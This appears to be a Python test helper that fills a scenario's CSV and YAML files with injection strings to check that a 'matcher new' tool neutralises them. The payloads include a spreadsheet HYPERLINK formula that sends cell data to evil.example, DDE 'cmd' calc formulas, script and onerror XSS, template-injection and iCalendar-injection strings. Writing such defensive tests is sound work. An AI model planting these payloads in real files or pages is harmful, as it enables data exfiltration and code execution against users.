"""The example of ``matcher new`` with a hostile word in every text, and what it must not become."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from itertools import cycle
from pathlib import Path

import openpyxl

from matcher.reading import new_scenario

WORDS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "'=1+1",
    '<script>alert("evil")</script>',
    "<img src=http://evil.example/x onerror=alert(1)>",
    "javascript:alert(1)",
    "]]><evil/>",
    "{{ 7*7*1013 }}{% raw %}",
    "甲\nBEGIN:VEVENT\nSUMMARY:evil",
    "\\nBEGIN:VEVENT;x=,y",
    "&lt;b&gt;&amp;amp;\"'",
    "＝1+1",
)
TEXTS = ("name", "reason", "note", "goal", "target", "status", "province", "city", "county",
         "channel", "disease", "level", "remark")  # fmt: skip
IDS = {"supporters": "=", "recipients": "@", "staff": "-"}
"""What is put before the ids of these tables, wherever they stand."""

RULES = """
  training: {a_year: 1}
  appointments: {leader: vice_president, from_title: attending, clause: '<script>alert(1)</script>'}
  milestones:
    - {date: 2030-02-15, kind: agreement, for: new, note: '=1+1 <script>alert(2)</script>'}
    - {date: 2030-03, kind: supplementary_agreement, for: kept, note: '{{ 7*7*1013 }}'}
"""


def hostile(home: Path) -> Path:
    """Write the scenario into a folder of CSV files; give the folder."""
    new_scenario(home / "sound", "en", year=2030)
    folder = home / "hostile"
    folder.mkdir()
    tables = dict(_tables(home / "sound" / "tables.xlsx"))
    known = {
        str(row[rows[0].index("id")]): mark + str(row[rows[0].index("id")])
        for name, mark in IDS.items()
        for rows in [tables[name]]
        for row in rows[1:]
    }
    words = cycle(WORDS)
    for name, rows in tables.items():
        head = rows[0]
        with (folder / f"{name}.csv").open("w", encoding="utf-8-sig", newline="") as file:
            out = csv.writer(file)
            out.writerow(head)
            for row in rows[1:]:
                out.writerow([_cell(h, c, known, words) for h, c in zip(head, row, strict=True)])
    (folder / "scenario.yaml").write_text(_yaml(home / "sound", tables), "utf-8")
    return folder


def _tables(book: Path) -> Iterator[tuple[str, list[list]]]:
    for sheet in openpyxl.load_workbook(book, read_only=False):
        rows = [["" if cell is None else cell for cell in row] for row in sheet.values]
        rows = [row for row in rows if any(cell != "" for cell in row)]
        if sheet.title.islower() and len(rows) > 1:
            filled = [n for n, head in enumerate(rows[0]) if head != ""]
            yield sheet.title, [[row[n] for n in filled] for row in rows]


def _cell(head: str, cell: object, known: dict[str, str], words: Iterator[str]) -> str:
    text = str(cell)
    text = text[:10] if text.endswith("00:00:00") else text
    if head in TEXTS and head not in ("province", "city", "county", "level"):
        word = next(words)
        # A name in full width is shown as it is, and asked for in half width when it is typed.
        return word if head != "name" else f"{word.replace('＝', '=')} {text}"
    return known.get(text, text)


def _yaml(sound: Path, tables: dict) -> str:
    lines = (sound / "scenario.yaml").read_text("utf-8").splitlines()
    found = []
    for line in lines:
        word = line.strip().partition(":")[0]
        if word == "title":
            line = f"title: '{WORDS[5]} {WORDS[9]}'"
        elif word == "source":
            line = f"source: '{WORDS[6]}'"
        elif word in tables and "tables.xlsx" in line:
            line = f"  {word}: {word}.csv"
        elif "tables.xlsx" in line and not line.strip().startswith("#"):
            continue
        found.append(line)
        if line.startswith("rules:"):
            found.append(RULES.strip("\n"))
    return "\n".join(found) + "\n"
